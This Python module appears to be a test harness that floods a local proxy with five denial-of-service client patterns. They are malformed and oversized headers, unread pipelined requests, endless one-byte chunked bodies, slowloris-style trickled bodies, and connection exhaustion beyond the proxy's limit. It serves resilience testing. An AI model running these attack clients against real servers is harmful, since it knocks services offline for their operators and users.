"""Clients that want to keep a proxy from serving others, each kind in a process of its own: attacks.py KIND PORT.

It prints a line once all its connections are open, and goes on until it is ended.
"""

from __future__ import annotations

import asyncio
import contextlib
import resource
import sys
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

    Opened = tuple[asyncio.StreamReader, asyncio.StreamWriter]

__all__ = ["KINDS", "LIMIT"]

HOST: Final = "127.0.0.1"
LIMIT: Final = 300
"""Connections that the proxy allows; `crowd` wants three times as many."""
DRIP_S: Final = 0.1
EVIL_HEADS: Final = (
    b"GET / HTTP/1.1\r\nHost: a\r\nConnection: a" + b" ," * 40 + b'"\r\n\r\n',
    b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"_" * 16_000 + b"\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\nCookie: " + b"affinity=;a;;" * 1_200 + b"\r\n\r\n",
)


async def _open(port: int) -> Opened:
    return await asyncio.open_connection(HOST, port)


async def evil_heads(port: int, number: int, opened: asyncio.Event) -> None:
    """One head after the other that is hard to read."""
    while True:
        reader, writer = await _open(port)
        opened.set()
        writer.write(EVIL_HEADS[number % len(EVIL_HEADS)])
        await reader.readuntil(b"\r\n\r\n")
        writer.transport.abort()
        number += 1


async def pipeline(port: int, number: int, opened: asyncio.Event) -> None:
    """Requests without end, and no answer is read."""
    del number
    reader, writer = await _open(port)
    reader._transport.pause_reading()  # type: ignore[attr-defined]  # noqa: SLF001 - a stream reads ahead by itself
    opened.set()
    while True:
        writer.write(b"GET /x HTTP/1.1\r\nHost: a\r\n\r\n" * 1_000)
        await writer.drain()


async def tiny_chunks(port: int, number: int, opened: asyncio.Event) -> None:
    """A body without end, in chunks of one byte, as fast as they are taken."""
    del number
    _, writer = await _open(port)
    writer.write(b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n")
    opened.set()
    while True:
        writer.write(b"1\r\nx\r\n" * 10_000)
        await writer.drain()


async def crowd(port: int, number: int, opened: asyncio.Event) -> None:
    """A connection beyond the limit, opened again when it is closed."""
    del number
    while True:
        reader, writer = await _open(port)
        opened.set()
        writer.write(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
        while await reader.read(65_536):
            pass
        await asyncio.sleep(DRIP_S)  # it holds its end for a moment, as one who wants descriptors does
        writer.transport.abort()


async def slow_bodies(port: int, number: int, opened: asyncio.Event) -> None:
    """A body that comes just as fast as it must."""
    del number
    _, writer = await _open(port)
    writer.write(b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n")
    opened.set()
    while True:
        writer.write(b"x" * 12)
        await writer.drain()
        await asyncio.sleep(DRIP_S)


KINDS: Final[dict[str, tuple[Callable[[int, int, asyncio.Event], Awaitable[None]], int]]] = {
    "evil-heads": (evil_heads, 4),
    "pipeline": (pipeline, 64),
    "tiny-chunks": (tiny_chunks, 4),
    "crowd": (crowd, 3 * LIMIT),
    "slow-bodies": (slow_bodies, 8),
}
"""What each connection of an attack does, and how many there are."""


async def _attack(kind: str, port: int) -> None:
    attacker, count = KINDS[kind]
    events = [asyncio.Event() for _ in range(count)]

    async def again(number: int) -> None:
        while True:
            with contextlib.suppress(OSError, EOFError):
                await attacker(port, number, events[number])
            await asyncio.sleep(DRIP_S)

    tasks = [asyncio.create_task(again(number)) for number in range(count)]
    # A proxy that takes no more connections than it may holds the others back: half of them are an attack.
    done = asyncio.as_completed([event.wait() for event in events])
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(5):
            for each in done:
                await each
    print("attacking", flush=True)
    await asyncio.gather(*tasks)


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(_attack(sys.argv[1], int(sys.argv[2])))
